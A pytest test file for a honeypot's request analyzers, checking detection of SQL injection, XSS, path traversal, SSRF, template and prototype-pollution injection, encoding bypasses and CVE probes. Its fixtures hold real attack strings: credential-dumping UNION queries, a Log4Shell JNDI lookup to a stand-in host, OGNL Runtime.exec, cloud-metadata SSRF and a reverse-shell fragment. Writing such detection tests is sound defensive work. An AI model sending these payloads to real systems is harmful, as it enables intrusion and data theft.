"""
Tests for payload-matching analyzers: SQL injection, XSS, path traversal,
SSRF, JavaScript injection, encoding bypasses and vulnerability probes.
"""

import pytest

from honeypot.detection import pattern_library
from honeypot.detection.analyzers import (
    JavaScriptInjectionAnalyzer,
    PathTraversalAnalyzer,
    SqlInjectionAnalyzer,
    SsrfAnalyzer,
    UnicodeEncodingAttackAnalyzer,
    VulnerabilityProbeAnalyzer,
    XssAnalyzer
)
from honeypot.detection.analyzers.xss import describe_rule, score_rule
from honeypot.detection.request_view import RequestView

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)


def build(uri="/", method="GET", headers=None, **kwargs):
    """Request from a browser on example.com unless told otherwise."""
    merged = {"Host": "example.com", "User-Agent": CHROME}
    merged.update(headers or {})
    return RequestView.build(method=method, uri=uri, headers=merged, ip="203.0.113.10", **kwargs)


class TestSqlInjectionAnalyzer:
    """Test SQL injection detection."""

    def setup_method(self):
        """Set up test fixtures."""
        self.analyzer = SqlInjectionAnalyzer()

    def test_union_select(self):
        """Test UNION-based injection in the query string."""
        result = self.analyzer.analyze(build("/products.php?id=1+UNION+SELECT+username,password+FROM+users"))

        assert result is not None
        assert result.score >= 70
        assert result.categories == (16, 45)
        assert result.analyzer_name == "SqlInjection"
        assert "UNION-based injection" in result.comment
        assert result.comment.startswith("SQL injection attempt detected: ")

    def test_sqlmap_user_agent(self):
        """Test the sqlmap tool signature."""
        result = self.analyzer.analyze(build(headers={"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}))

        assert result is not None
        assert result.score >= 90
        assert "sqlmap" in result.comment

    def test_time_based_blind_in_post_field(self):
        """Test a time-based payload in a form field."""
        request = build("/login", method="POST", post_data={"id": "1 AND SLEEP(5)"})
        result = self.analyzer.analyze(request)

        assert result is not None
        assert result.score == 90
        assert "time-based blind injection" in result.comment
        assert "POST field 'id'" in result.comment

    def test_encoded_payload_in_cookie(self):
        """Test that carrier headers are decoded before matching."""
        result = self.analyzer.analyze(build(headers={"Cookie": "id=1%27%20UNION%20SELECT%201--"}))

        assert result is not None
        assert "header 'Cookie'" in result.comment

    @pytest.mark.parametrize("uri", ["/", "/blog/hello-world?page=2", "/shop?category=shoes&sort=price"])
    def test_clean_requests(self, uri):
        """Test that ordinary requests are not flagged."""
        assert self.analyzer.analyze(build(uri)) is None


class TestXssAnalyzer:
    """Test cross-site scripting detection."""

    def setup_method(self):
        """Set up test fixtures."""
        self.analyzer = XssAnalyzer()

    def test_script_tag(self):
        """Test a script tag in a query parameter."""
        result = self.analyzer.analyze(build("/search?q=<script>alert(1)</script>"))

        assert result is not None
        assert result.score == 90
        assert result.categories == (44, 45)
        assert "script tag injection" in result.comment

    def test_entity_encoded_event_handler(self):
        """Test an entity-encoded payload in a form field."""
        request = build(
            "/wp-comments-post.php",
            method="POST",
            post_data={"comment": "&lt;img src=x onerror=alert(1)&gt;"},
        )
        result = self.analyzer.analyze(request)

        assert result is not None
        assert result.score >= 80
        assert "POST field 'comment'" in result.comment

    def test_referer_payload(self):
        """Test a payload carried in the Referer header."""
        result = self.analyzer.analyze(build(headers={"Referer": "https://x.example/<iframe src=//evil>"}))

        assert result is not None
        assert "Referer header" in result.comment

    def test_rule_scores_ignore_repeat_counts(self):
        """Test that counted gaps do not change how a rule is scored."""
        data_rule = next(rule for rule in pattern_library.xss_patterns() if "base64" in rule.pattern)

        assert score_rule(data_rule) == 65
        assert describe_rule(data_rule) == "data URI injection"

    def test_clean_request(self):
        """Test that ordinary requests are not flagged."""
        assert self.analyzer.analyze(build("/about?lang=en")) is None


class TestPathTraversalAnalyzer:
    """Test directory traversal detection."""

    def setup_method(self):
        """Set up test fixtures."""
        self.analyzer = PathTraversalAnalyzer()

    def test_dot_dot_slash(self):
        """Test plain traversal sequences."""
        result = self.analyzer.analyze(build("/download.php?file=../../../../etc/passwd"))

        assert result is not None
        assert result.score >= 75
        assert result.categories == (21,)
        assert "directory traversal sequence" in result.comment

    def test_php_filter_wrapper(self):
        """Test stream wrapper abuse."""
        result = self.analyzer.analyze(build("/index.php?page=php://filter/convert.base64-encode/resource=index.php"))

        assert result is not None
        assert result.score == 90
        assert "PHP filter wrapper abuse" in result.comment

    def test_encoded_traversal(self):
        """Test percent-encoded traversal in the path."""
        result = self.analyzer.analyze(build("/static/%2e%2e%2f%2e%2e%2fetc/passwd"))

        assert result is not None
        assert result.score >= 75

    def test_clean_request(self):
        """Test that ordinary requests are not flagged."""
        assert self.analyzer.analyze(build("/docs/getting-started")) is None


class TestSsrfAnalyzer:
    """Test server-side request forgery detection."""

    def setup_method(self):
        """Set up test fixtures."""
        self.analyzer = SsrfAnalyzer()

    def test_cloud_metadata(self):
        """Test a metadata endpoint in a URL parameter."""
        result = self.analyzer.analyze(build("/fetch?url=http://169.254.169.254/latest/meta-data/"))

        assert result is not None
        assert result.score >= 80
        assert 'URL parameter "url" points to internal resource' in result.comment

    def test_gopher_scheme(self):
        """Test a dangerous scheme in a URL parameter."""
        result = self.analyzer.analyze(build("/proxy?target=gopher://127.0.0.1:6379/_INFO"))

        assert result is not None
        assert result.score >= 80

    def test_clean_request(self):
        """Test that ordinary requests are not flagged."""
        assert self.analyzer.analyze(build("/products?category=shoes")) is None


class TestJavaScriptInjectionAnalyzer:
    """Test client-side code injection detection."""

    def setup_method(self):
        """Set up test fixtures."""
        self.analyzer = JavaScriptInjectionAnalyzer()

    def test_javascript_protocol_with_dom_access(self):
        """Test that many findings raise the score to the top tier."""
        result = self.analyzer.analyze(build("/go?next=javascript:alert(document.cookie)"))

        assert result is not None
        assert result.score == 85
        assert "JavaScript protocol handler" in result.comment

    def test_prototype_pollution(self):
        """Test __proto__ in the URI."""
        result = self.analyzer.analyze(build("/api/settings?__proto__[isAdmin]=true"))

        assert result is not None
        assert result.score == 70
        assert "Prototype pollution attempt in URI" in result.comment

    def test_nodejs_payload_in_body(self):
        """Test a child_process payload in a JSON body."""
        request = build(
            "/api/run",
            method="POST",
            headers={"Content-Type": "application/json"},
            body='{"cmd": "require(\'child_process\').exec(\'id\')"}',
        )
        result = self.analyzer.analyze(request)

        assert result is not None
        assert result.score >= 80
        assert "request body" in result.comment

    def test_constructor_chain(self):
        """Test a front-end template sandbox escape."""
        result = self.analyzer.analyze(build("/search?q={{constructor.constructor('alert(1)')()}}"))

        assert result is not None
        assert result.score == 75
        assert "Template injection in query param 'q': constructor chain exploitation" in result.comment

    def test_brace_padding_before_payload(self):
        """Test that a long run of braces does not hide the payload behind it."""
        result = self.analyzer.analyze(build("/search?q=" + "{" * 1000 + "{{constructor.constructor(1)}}"))

        assert result is not None
        assert "constructor chain exploitation" in result.comment

    def test_clean_request(self):
        """Test that ordinary requests are not flagged."""
        assert self.analyzer.analyze(build("/assets/app.js?v=3")) is None


class TestUnicodeEncodingAttackAnalyzer:
    """Test encoding-based filter bypass detection."""

    def setup_method(self):
        """Set up test fixtures."""
        self.analyzer = UnicodeEncodingAttackAnalyzer()

    def test_overlong_utf8(self):
        """Test overlong slash encoding."""
        result = self.analyzer.analyze(build("/..%c0%af..%c0%afetc/passwd"))

        assert result is not None
        assert result.score == 70
        assert "Overlong UTF-8 encoding" in result.comment

    def test_null_byte(self):
        """Test a percent-encoded null byte."""
        result = self.analyzer.analyze(build("/index.php?file=shell.php%00.jpg"))

        assert result is not None
        assert "Null byte injection in URI" in result.comment

    def test_punycode_host(self):
        """Test an IDN host header."""
        result = self.analyzer.analyze(build(headers={"Host": "xn--exmple-cua.com"}))

        assert result is not None
        assert result.score == 60

    def test_clean_request(self):
        """Test that ordinary requests are not flagged."""
        assert self.analyzer.analyze(build("/caf%C3%A9/menu")) is None


class TestVulnerabilityProbeAnalyzer:
    """Test CVE and webshell probe detection."""

    def setup_method(self):
        """Set up test fixtures."""
        self.analyzer = VulnerabilityProbeAnalyzer()

    def test_log4shell_in_header(self):
        """Test a JNDI lookup in the User-Agent."""
        result = self.analyzer.analyze(build(headers={"User-Agent": "${jndi:ldap://evil.example/a}"}))

        assert result is not None
        assert result.score == 95
        assert "Log4Shell JNDI lookup in header 'User-Agent'" in result.comment

    def test_phpunit_eval_stdin(self):
        """Test the PHPUnit RCE path."""
        result = self.analyzer.analyze(build("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"))

        assert result is not None
        assert result.score == 90

    def test_command_parameter(self):
        """Test a command execution parameter."""
        result = self.analyzer.analyze(build("/index.php?cmd=id"))

        assert result is not None
        assert result.score == 70
        assert "Command execution parameter in URI" in result.comment

    def test_reverse_shell_one_liner(self):
        """Test an interpreter one-liner in a query parameter."""
        result = self.analyzer.analyze(build("/x?c=python3+-c+%27import+socket,subprocess%27"))

        assert result is not None
        assert result.score == 85
        assert "Reverse shell command in URI" in result.comment

    def test_ognl_runtime_exec(self):
        """Test an OGNL Runtime.exec expression."""
        payload = "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"
        result = self.analyzer.analyze(build(headers={"X-Api-Version": payload}))

        assert result is not None
        assert "OGNL Runtime.exec injection in header 'X-Api-Version'" in result.comment

    def test_rule_reported_once(self):
        """Test that one rule is reported for its first matching surface only."""
        result = self.analyzer.analyze(build("/x?a=c99shell&b=c99shell"))

        assert result is not None
        assert result.comment.count("Webshell signature") == 1

    def test_clean_request(self):
        """Test that ordinary requests are not flagged."""
        assert self.analyzer.analyze(build("/blog/2024/05/release-notes")) is None
